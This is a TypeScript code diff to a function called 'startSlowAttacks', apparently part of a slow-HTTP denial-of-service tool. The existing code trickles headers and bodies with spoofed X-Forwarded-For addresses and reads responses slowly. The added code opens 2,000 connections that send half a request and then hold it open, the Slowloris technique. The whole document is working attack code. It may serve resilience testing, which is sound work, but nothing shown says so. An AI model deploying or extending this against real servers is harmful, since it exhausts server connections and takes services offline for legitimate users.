@@ -4,6 +4,8 @@ import type { Weapon } from './attacks.ts'
 
 const writers = 50
 const readers = 20
+/** Connections with the beginning of one request, which never goes on. */
+const idlers = 2000
 const readEveryMs = 125
 const readAtOnce = 1024
 
@@ -44,6 +46,11 @@ export function startSlowAttacks(
     socket.write(`GET / HTTP/1.1\r\n${host}X-Forwarded-For: ${address()}\r\n`)
     return setInterval(() => socket.write(`X-${randomUUID()}: a\r\n`), 5000)
   }
+  const sayNothing = (socket: Socket) => {
+    socket.resume()
+    socket.write(`GET / HTTP/1.1\r\n${host}`)
+    return setInterval(() => undefined, readEveryMs * 1000)
+  }
   const writeBody = (socket: Socket) => {
     socket.resume()
     socket.write(
@@ -60,6 +67,7 @@ export function startSlowAttacks(
 
   for (let place = 0; place < writers; place++) open(place % 2 === 0 ? writeHeaders : writeBody)
   for (let place = 0; place < readers; place++) open(readSlowly)
+  for (let place = 0; place < idlers; place++) open(sayNothing)
   return () => {
     isOver = true
     for (const timer of timers) clearInterval(timer)
